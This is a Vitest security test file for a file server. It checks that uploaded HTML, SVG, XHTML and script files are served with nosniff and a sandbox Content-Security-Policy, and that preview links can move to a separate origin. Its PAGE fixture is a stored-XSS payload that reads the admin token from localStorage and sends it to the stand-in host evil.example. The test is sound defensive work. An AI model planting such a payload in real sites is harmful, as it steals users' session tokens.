import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ApiClient } from '../helpers/api.js';
import { type TestServer, startTestServer } from '../helpers/server.js';
import { basicAuth } from './http.js';

/** A page any writer could upload: run on the UI's origin it would read the admin's token. */
const PAGE = '<!doctype html><script>fetch("https://evil.example/?t=" + localStorage.getItem("token"))</script>';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(localStorage.getItem("token"))</script></svg>';

/** Files whose bytes a browser would run (or render as a document that can run script). */
const ACTIVE: Record<string, string> = {
  'page.html': PAGE,
  'page.htm': PAGE,
  'pic.svg': SVG,
  'doc.xhtml': `<html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>`,
  'data.xml': '<?xml version="1.0"?><a/>',
  'app.js': 'alert(1)',
  'mod.mjs': 'export default 1',
  'feed.rss': '<?xml version="1.0"?><rss/>',
};
const PASSIVE: Record<string, string> = { 'note.txt': 'plain text', 'photo.png': 'not really a png', 'blob.bin': PAGE };

/**
 * User content never runs on the UI's origin: every door that serves file bytes (WebDAV GET, /d,
 * /p) says nosniff, and sandboxes active types (a unique origin, no scripts), while passive types
 * stay inline for previews; `content_origin` moves preview links to another origin.
 */
describe('uploaded content is served inert', () => {
  let server: TestServer;
  let api: ApiClient;

  beforeAll(async () => {
    server = await startTestServer();
    api = ApiClient.for(server, server.settings.get('token'));
    for (const [name, body] of Object.entries({ ...ACTIVE, ...PASSIVE })) expect((await api.put(`/up/${name}`, body)).code).toBe(200);
  });
  afterAll(async () => server?.stop());

  const dav = (name: string, method = 'GET') => fetch(`${server.url}/dav/up/${name}`, { method, headers: { authorization: basicAuth('admin', 'admin-test-pass') } });
  const signed = async (door: 'd' | 'p', name: string, method = 'GET') => {
    const got = await api.post('/api/fs/get', { path: `/up/${name}` });
    expect(got.code).toBe(200);
    return fetch(`${server.url}/${door}/up/${encodeURIComponent(name)}?sign=${encodeURIComponent(got.data.sign)}`, { method });
  };
  const doors: [string, (name: string, method?: string) => Promise<Response>][] = [
    ['WebDAV GET', dav],
    ['/d', (n, m) => signed('d', n, m)],
    ['/p', (n, m) => signed('p', n, m)],
  ];

  function expectSandboxed(res: Response, what: string) {
    expect(res.status, what).toBe(200);
    expect(res.headers.get('x-content-type-options'), what).toBe('nosniff');
    const csp = res.headers.get('content-security-policy') ?? '';
    expect(csp.split(';').map((d) => d.trim()), what).toContain('sandbox');
    expect(csp, what).not.toMatch(/allow-scripts|allow-same-origin/);
  }

  it.each(doors)('%s: html, svg, xhtml, xml and scripts come with nosniff and a sandbox CSP', async (door, get) => {
    for (const name of Object.keys(ACTIVE)) {
      const res = await get(name);
      expectSandboxed(res, `${door} ${name}`);
      expect(await res.text()).toBe(ACTIVE[name]);
    }
    // HEAD answers carry the same headers.
    expectSandboxed(await get('page.html', 'HEAD'), `${door} HEAD page.html`);
  });

  it.each(doors)('%s: passive types are nosniff and not sandboxed', async (door, get) => {
    for (const name of Object.keys(PASSIVE)) {
      const res = await get(name);
      expect(res.status, `${door} ${name}`).toBe(200);
      expect(res.headers.get('x-content-type-options'), `${door} ${name}`).toBe('nosniff');
      expect(res.headers.get('content-security-policy'), `${door} ${name}`).toBeNull();
      expect(await res.text()).toBe(PASSIVE[name]);
    }
  });

  it('the HTML page is sent as text/html only together with the sandbox, and previews stay inline over WebDAV', async () => {
    const res = await dav('page.html');
    expect(res.headers.get('content-type')).toMatch(/^text\/html/);
    expectSandboxed(res, 'page.html');
    expect((await dav('photo.png')).headers.get('content-disposition')).toMatch(/^inline/);
    // An unknown type is never sniffed into HTML.
    const bin = await dav('blob.bin');
    expect(bin.headers.get('content-type')).toBe('application/octet-stream');
    expect(bin.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it('content_origin (default empty) moves raw_url preview links off the UI origin', async () => {
    const plain = await api.post('/api/fs/get', { path: '/up/photo.png' });
    expect(plain.data.raw_url.startsWith(`${server.url}/p/up/photo.png`)).toBe(true);
    const stored = (await api.get('/api/admin/setting/get?key=content_origin')).data as { value: string } | null;
    expect(stored?.value).toBe('');
    await api.post('/api/admin/setting/save', [{ key: 'content_origin', value: 'https://files.example.test/' }]);
    try {
      const moved = await api.post('/api/fs/get', { path: '/up/page.html' });
      expect(moved.data.raw_url).toMatch(/^https:\/\/files\.example\.test\/p\/up\/page\.html\?sign=/);
      // The link works on that origin: same path and sign, here against this server.
      const local = moved.data.raw_url.replace('https://files.example.test', server.url);
      expectSandboxed(await fetch(local), 'raw_url on the content origin');
    } finally {
      await api.post('/api/admin/setting/save', [{ key: 'content_origin', value: '' }]);
    }
  });
});
